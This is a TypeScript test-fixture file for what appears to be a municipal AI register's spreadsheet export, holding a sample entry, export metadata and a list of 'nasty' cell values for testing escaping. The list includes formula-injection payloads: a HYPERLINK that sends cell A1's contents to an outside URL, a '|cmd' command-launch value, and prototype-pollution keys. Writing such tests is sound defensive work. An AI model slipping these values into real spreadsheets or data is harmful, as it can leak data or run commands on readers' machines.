import { type Entry, type EntryValues, entryValues } from "#domain/entry/entry.ts";
import { dayOf } from "#domain/time/day.ts";
import type { AboutExport } from "#exports/aboutRows.ts";

/** An entry with what the test is about; everything else is plain. */
export function anEntry(values: EntryValues = {}, no = "KI-2026-0001"): Entry {
  return {
    no,
    revision: 1,
    versionRevision: 1,
    values: entryValues({ registerNo: no, title: "Chatassistenz", ...values }),
  };
}

/** The particulars of a file that is about nothing special. */
export const someAbout: AboutExport = {
  sheet: "Register",
  city: "Stadt Beispielhausen",
  createdAt: "2026-11-22T14:04:00.000Z",
  asOf: dayOf(2026, 11, 22),
  role: "coordinator",
  filter: "Alle Einträge",
  personsPurpose: null,
  demo: false,
};

/** Cells that break careless writers and run in careless readers. */
export const NASTY_CELLS = [
  '=HYPERLINK("https://example.org?x="&A1;"Bitte klicken")',
  "+49 341 123-0",
  "-1+1|cmd",
  "@SUM(A1)",
  "\tmit Tabulator",
  "\rmit Wagenrücklauf",
  "'schon mit Strich",
  "''zwei Striche",
  'Sagt "ja"; sagt "nein"',
  "Zeile 1\nZeile 2\r\nZeile 3",
  "Größe, Maß & Übermaß <b>fett</b>",
  "👩‍💻🏛️ 10 €",
  " Leerzeichen ",
  "constructor",
  "__proto__",
  "_x0041_ bleibt",
  "a;b,c",
  "0012",
  "1.200",
  "1e5",
  "10:30",
  "3-4",
  "TRUE",
  "＝1+1",
] as const;
